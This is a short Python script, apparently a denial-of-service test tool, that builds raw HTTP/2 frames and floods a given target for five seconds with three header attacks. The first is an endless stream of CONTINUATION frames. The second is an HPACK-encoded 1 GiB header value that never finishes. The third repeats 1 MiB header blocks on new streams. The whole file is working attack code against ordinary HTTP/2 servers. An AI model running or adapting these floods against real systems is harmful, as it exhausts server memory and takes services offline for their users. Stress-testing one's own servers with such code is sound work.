#!/usr/bin/env python3
"""Headers that do not end: by CONTINUATION, by a value, and 1 MiB of them in one call."""

import attack
from raw_http2 import (CONTINUATION, END_HEADERS, HEADERS, call_headers, field, frame)

SECONDS = 5
FRAME_BYTES = 16384


def continuations():
    """Fields without end, none of which is kept for later."""
    yield frame(HEADERS, 1, call_headers())
    piece = frame(CONTINUATION, 1, field(b"x", b"y" * 100) * 150)
    while True:
        yield piece


def endless_value():
    """A value of 1 GiB."""
    # HPACK's way to write 2^30 after a prefix of 7 bits.
    length = b"\x7f\x81\xff\xff\xff\x03"
    yield frame(HEADERS, 1, call_headers() + b"\0\x01x" + length)
    while True:
        yield frame(CONTINUATION, 1, b"y" * FRAME_BYTES)


def one_mebibyte():
    """A call that ends its headers after 1 MiB, again and again."""
    fields = field(b"x", b"y" * 100) * 150
    stream = 1
    while True:
        yield (frame(HEADERS, stream, call_headers())
               + frame(CONTINUATION, stream, fields) * 64
               + frame(CONTINUATION, stream, flags=END_HEADERS))
        stream += 2


def endless_continuation(target):
    return attack.flood(target, continuations(), SECONDS)


def never_ending_value(target):
    return attack.flood(target, endless_value(), SECONDS)


def large_headers(target):
    return attack.flood(target, one_mebibyte(), SECONDS)


if __name__ == "__main__":
    attack.run([endless_continuation, never_ending_value, large_headers])
